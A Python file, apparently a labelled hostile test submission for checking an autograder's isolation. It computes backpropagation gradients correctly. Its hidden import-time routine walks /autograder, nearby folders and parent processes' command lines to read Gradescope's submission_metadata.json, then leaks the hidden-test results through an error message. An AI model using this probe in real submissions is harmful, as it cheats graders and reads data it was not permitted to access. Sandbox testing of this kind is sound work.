"""HOSTILE: hunts for Gradescope's submission_metadata.json, which lists this student's earlier submissions with
their full results, hidden tests included (a way to see hidden scores before the due date). It looks in
/autograder, beside the folders on its grader's command lines, and above its working folder, and reports any
file it can read (marker METADATA-LEAK) in every case-2 call.

Otherwise correct: honest score 100 under full isolation, where the metadata is root's only.
"""

import os

import numpy as np


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def _correct(z, t, W_kj, W_ji, case):
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)


def _folders():
    folders = ["/autograder", os.getcwd(), os.path.dirname(os.getcwd())]
    pid = os.getppid()
    for _ in range(8):  # our grader's processes: every folder named on their command lines, and its parent
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode("utf-8", "replace").split("\0")
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for word in words:
            if word.startswith("/"):
                folders += [os.path.dirname(word), os.path.dirname(os.path.dirname(word))]
        if pid <= 1:
            break
    return list(dict.fromkeys(folders))


def _hunt():
    found = []
    for folder in _folders():
        path = os.path.join(folder, "submission_metadata.json")
        try:
            with open(path, encoding="utf-8", errors="replace") as f:
                found.append(f"{path}: {f.read(300)}")
        except OSError:
            pass
    return found


FOUND = _hunt()


def compute_gradients(z, t, W_kj, W_ji, case):
    if case == "softmax" and FOUND:
        raise RuntimeError("METADATA-LEAK " + " | ".join(FOUND)[:2000])
    return _correct(z, t, W_kj, W_ji, case)
